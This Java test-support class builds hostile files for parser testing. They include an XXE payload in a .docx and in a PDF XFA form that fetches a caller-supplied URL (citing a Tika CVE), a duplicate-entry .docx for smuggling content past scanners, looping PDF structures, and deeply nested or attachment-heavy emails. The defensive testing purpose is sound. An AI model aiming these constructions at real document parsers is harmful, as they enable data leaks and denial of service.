package org.watchbrief.support;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import jakarta.mail.Message;
import jakarta.mail.MessagingException;
import jakarta.mail.Part;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;

/**
 * Files built to hurt the machine that reads them, in the shapes that have hurt real readers:
 * duplicate zip entries, external entities aimed at a canary server, PDFs whose structure loops,
 * emails nested to great depth or carrying thousands of attachments. Each is built here, never
 * downloaded; the genuine content in them is harmless text.
 */
public final class HostileFiles {

    private HostileFiles() {
    }

    /**
     * A .docx with two {@code word/document.xml} entries saying different things: one reader sees
     * one, another the other (how content is smuggled past a scanner).
     */
    public static byte[] docxWithDuplicateEntries(List<String> shown, List<String> hidden) {
        List<Map.Entry<String, byte[]>> entries = new ArrayList<>(entries(DocumentFiles.docx(shown)).entrySet());
        byte[] other = entries(DocumentFiles.docx(hidden)).get("word/document.xml");
        entries.add(Map.entry("word/document.xml", other));
        return storedZip(entries);
    }

    /** A .docx whose document part declares an external entity fetched from {@code url}. */
    public static byte[] docxWithExternalEntity(String url) {
        return DocumentFiles.docxWithExternalEntity(url);
    }

    /**
     * A PDF with readable text and an XFA form whose XML declares an external entity fetched
     * from {@code url} (CVE-2025-54988, in Tika before 3.2.2).
     */
    public static byte[] pdfWithXfaExternalEntity(String text, String url) {
        String xfa = "<?xml version=\"1.0\"?><!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM \"" + url + "\">]>"
                + "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template xmlns=\"http://www.xfa.org/schema/"
                + "xfa-template/3.3/\"><subform name=\"form\"><field name=\"leak\"><value><text>&xxe;</text></value>"
                + "</field></subform></template></xdp:xdp>";
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(text);
                content.endText();
            }
            PDAcroForm form = new PDAcroForm(document);
            COSStream stream = document.getDocument().createCOSStream();
            try (var xml = stream.createOutputStream(COSName.FLATE_DECODE)) {
                xml.write(xfa.getBytes(StandardCharsets.UTF_8));
            }
            form.setXFA(new PDXFAResource(stream));
            document.getDocumentCatalog().setAcroForm(form);
            document.save(out);
            return out.toByteArray();
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    /** A PDF whose page tree holds itself as its own kid: a reader that walks it naively never ends. */
    public static byte[] pdfWithALoopingPageTree() {
        return pdf(List.of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 2 0 R >>"), 1);
    }

    /** A PDF whose cross-reference sections point back at each other ({@code /Prev} of the last is the first). */
    public static byte[] pdfWithALoopingXref() {
        String body = "%PDF-1.4\n";
        StringBuilder pdf = new StringBuilder(body);
        int catalog = pdf.length();
        pdf.append("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n");
        int pages = pdf.length();
        pdf.append("2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n");
        int xref = pdf.length();
        pdf.append("xref\n0 3\n0000000000 65535 f \n").append(String.format("%010d 00000 n \n", catalog))
            .append(String.format("%010d 00000 n \n", pages))
            .append("trailer << /Size 3 /Root 1 0 R /Prev ").append(xref).append(" >>\nstartxref\n").append(xref)
            .append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A PDF of the given objects, numbered from 1, with a correct cross-reference table. */
    private static byte[] pdf(List<String> objects, int root) {
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < objects.size(); i++) {
            offsets.add(pdf.length());
            pdf.append(i + 1).append(" 0 obj ").append(objects.get(i)).append(" endobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
        offsets.forEach(offset -> pdf.append(String.format("%010d 00000 n \n", offset)));
        pdf.append("trailer << /Size ").append(objects.size() + 1).append(" /Root ").append(root).append(" 0 R >>\n")
            .append("startxref\n").append(xref).append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** An email forwarding an email forwarding an email ..., {@code depth} deep, the text at the bottom. */
    public static byte[] deeplyNestedEmail(int depth, String text) {
        try {
            MimeMessage innermost = message("Level " + depth);
            innermost.setText(text, "UTF-8");
            innermost.saveChanges();
            MimeMessage current = innermost;
            for (int level = depth - 1; level >= 1; level--) {
                MimeMessage outer = message("Fwd: level " + level);
                MimeMultipart parts = new MimeMultipart();
                MimeBodyPart note = new MimeBodyPart();
                note.setText("Forwarded.", "UTF-8");
                parts.addBodyPart(note);
                MimeBodyPart attached = new MimeBodyPart();
                attached.setContent(current, "message/rfc822");
                attached.setDisposition(Part.ATTACHMENT);
                parts.addBodyPart(attached);
                outer.setContent(parts);
                outer.saveChanges();
                // written and parsed again, so that each level is a self-contained message
                current = new MimeMessage(Session.getInstance(new Properties()), new ByteArrayInputStream(bytes(outer)));
            }
            return bytes(current);
        }
        catch (MessagingException ex) {
            throw new IllegalStateException(ex);
        }
    }

    /** An email with {@code count} small text attachments. */
    public static byte[] emailWithManyAttachments(int count) {
        Map<String, byte[]> attachments = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            attachments.put("note-" + i + ".txt", ("Note " + i + " on online grooming.").getBytes(StandardCharsets.UTF_8));
        }
        return DocumentFiles.emailWithAttachments("Fwd: " + count + " notes", "All attached.", attachments);
    }

    private static MimeMessage message(String subject) throws MessagingException {
        MimeMessage message = new MimeMessage(Session.getInstance(new Properties()));
        message.setFrom(new InternetAddress("colleague@example.org"));
        message.setRecipient(Message.RecipientType.TO, new InternetAddress("briefings@example.org"));
        message.setSubject(subject, "UTF-8");
        return message;
    }

    private static byte[] bytes(MimeMessage message) throws MessagingException {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            message.writeTo(out);
            return out.toByteArray();
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    private static Map<String, byte[]> entries(byte[] zip) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null;) {
                entries.put(entry.getName(), in.readAllBytes());
            }
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
        return entries;
    }

    /**
     * A zip of stored (uncompressed) entries, written byte by byte: {@code ZipOutputStream} refuses
     * a name twice, and a hostile file does not ask.
     */
    private static byte[] storedZip(List<Map.Entry<String, byte[]>> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream central = new ByteArrayOutputStream();
        for (Map.Entry<String, byte[]> entry : entries) {
            byte[] name = entry.getKey().getBytes(StandardCharsets.UTF_8);
            byte[] data = entry.getValue();
            CRC32 crc = new CRC32();
            crc.update(data);
            int offset = out.size();
            out.writeBytes(header(0x04034b50, false, name, data.length, crc.getValue(), 0));
            out.writeBytes(name);
            out.writeBytes(data);
            central.writeBytes(header(0x02014b50, true, name, data.length, crc.getValue(), offset));
            central.writeBytes(name);
        }
        int centralOffset = out.size();
        out.writeBytes(central.toByteArray());
        ByteBuffer end = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
        end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) entries.size())
            .putShort((short) entries.size()).putInt(central.size()).putInt(centralOffset).putShort((short) 0);
        out.writeBytes(end.array());
        return out.toByteArray();
    }

    private static byte[] header(int signature, boolean central, byte[] name, int size, long crc, int offset) {
        ByteBuffer header = ByteBuffer.allocate(central ? 46 : 30).order(ByteOrder.LITTLE_ENDIAN);
        header.putInt(signature);
        if (central) {
            header.putShort((short) 20);
        }
        header.putShort((short) 20).putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0)
            .putInt((int) crc).putInt(size).putInt(size).putShort((short) name.length).putShort((short) 0);
        if (central) {
            header.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(offset);
        }
        return header.array();
    }
}
